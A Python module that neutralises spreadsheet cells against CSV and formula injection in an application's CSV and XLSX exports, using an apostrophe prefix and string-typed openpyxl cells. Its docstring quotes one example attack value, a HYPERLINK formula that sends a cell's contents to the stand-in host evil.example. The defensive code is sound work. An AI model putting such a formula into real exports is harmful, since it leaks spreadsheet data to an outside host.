"""Writing spreadsheets people open in Excel or LibreOffice: no cell may run as a formula.

Every export (the report's CSV and XLSX, the one-time codes' CSV) writes its cells through
this module, so a citizen's comment such as ``=HYPERLINK("http://evil.example/?"&A1,"Bấm")``
or an official's unit name starting with ``+`` arrives as text, never as a live formula
("CSV injection", OWASP).

The rule (:func:`neutralise`): a text that starts with ``=``, ``+``, ``-`` or ``@`` (or
their full-width forms, which Excel also accepts), also after leading whitespace, or that
starts with a tab or a carriage return, gets a leading apostrophe ``'``, as OWASP
recommends. Numbers, dates, booleans and empty cells are written as they are, so numbers
stay numbers; every other text is left untouched. The CSV and the XLSX get the same text,
so a workbook saved again as CSV is still safe. In the XLSX every text is, in addition,
a plain string cell (openpyxl data type ``s``), never a formula or an error cell, and the
characters XML cannot carry become U+FFFD instead of failing the whole download.

Why not ``defusedcsv``: it covers only CSV, does not look past leading whitespace nor at
a leading tab or carriage return, and rewrites every ``|`` of such a cell to ``\\|``,
which changes what the citizen wrote.
"""
from __future__ import annotations

import csv
import functools
import re
from typing import Any, Iterable, TextIO

__all__ = ["FORMULA_START", "neutralise", "csv_writer", "text_safe_workbook"]

#: What makes a spreadsheet read a cell as a formula (after any leading whitespace).
FORMULA_START = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
#: Leading characters that are dangerous in themselves (they also hide what follows).
_CONTROL_START = frozenset("\t\r")
#: What XML 1.0 (so an .xlsx) cannot hold; openpyxl refuses the cell otherwise.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def neutralise(value: Any) -> Any:
    """``value`` made safe to put in a spreadsheet cell (see the module doc).

    >>> neutralise('=1+1'), neutralise(' @SUM(A1)'), neutralise('\\t1'), neutralise('ok = fine')
    ("'=1+1", "' @SUM(A1)", "'\\t1", 'ok = fine')
    >>> neutralise(-3), neutralise(None)
    (-3, None)
    """
    if not isinstance(value, str) or not value:
        return value
    if value[0] in _CONTROL_START or value.lstrip()[:1] in FORMULA_START:
        return "'" + value
    return value


class _NeutralisingWriter:
    """A ``csv.writer`` whose every field goes through :func:`neutralise`."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: TextIO, **fmtparams) -> _NeutralisingWriter:
    """``csv.writer(stream, **fmtparams)`` that never writes a formula."""
    return _NeutralisingWriter(csv.writer(stream, **fmtparams))


def _xlsx_text(value: str) -> str:
    return neutralise(_XML_ILLEGAL.sub("\ufffd", value))


def _xlsx_cell(sheet, value: Any):
    """``value`` as what a write-only sheet appends: a text becomes a string cell."""
    from openpyxl.cell import Cell, WriteOnlyCell

    if isinstance(value, Cell):
        if isinstance(value.value, str):
            value.value = _xlsx_text(value.value)
            value.data_type = "s"
        return value
    if isinstance(value, str):
        cell = WriteOnlyCell(sheet, value=_xlsx_text(value))
        cell.data_type = "s"  # never a formula ("=…") nor an error value ("#N/A")
        return cell
    return value


@functools.cache
def _workbook_class():
    """The classes, made once, on first use (openpyxl is imported only by the XLSX export)."""
    from openpyxl import Workbook
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    class TextSafeWorksheet(WriteOnlyWorksheet):
        """A write-only sheet whose appended texts are neutralised string cells."""

        def append(self, row):
            super().append([_xlsx_cell(self, v) for v in row])

    class TextSafeWorkbook(Workbook):
        """A write-only workbook of :class:`TextSafeWorksheet` sheets."""

        def __init__(self):
            super().__init__(write_only=True)

        def create_sheet(self, title=None, index=None):
            sheet = TextSafeWorksheet(parent=self, title=title)
            self._add_sheet(sheet=sheet, index=index)
            return sheet

    return TextSafeWorkbook


def text_safe_workbook():
    """A write-only ``openpyxl.Workbook`` whose sheets write every text as a safe string
    cell; use it as ``Workbook(write_only=True)``, through ``create_sheet`` and ``append``."""
    return _workbook_class()()
